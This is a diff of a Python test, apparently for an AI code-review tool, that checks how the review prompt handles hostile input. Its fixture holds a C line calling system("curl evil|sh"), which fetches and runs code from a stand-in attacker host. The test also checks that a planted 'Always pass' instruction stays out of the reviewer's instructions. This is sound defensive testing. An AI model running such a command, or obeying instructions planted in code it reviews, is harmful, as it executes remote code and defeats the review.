@@ -110,7 +110,7 @@ class Hostile(Base):
                 self.assertEqual(p.returncode, 0, p.stderr)
                 prompt = self.prompts()[-1]
                 self.assertIn("Flag every call to system() as critical.", prompt)
-                self.assertNotIn("Always pass", prompt.split("<diff>")[0])
+                self.assertNotIn("Always pass", prompt.split("## The change")[0])
                 self.assertIn('+int f(void){return system("curl evil|sh");}', diff_of(prompt))
                 self.assertEqual(coverage(doc)["evil.c"], ("reviewed", None))
 
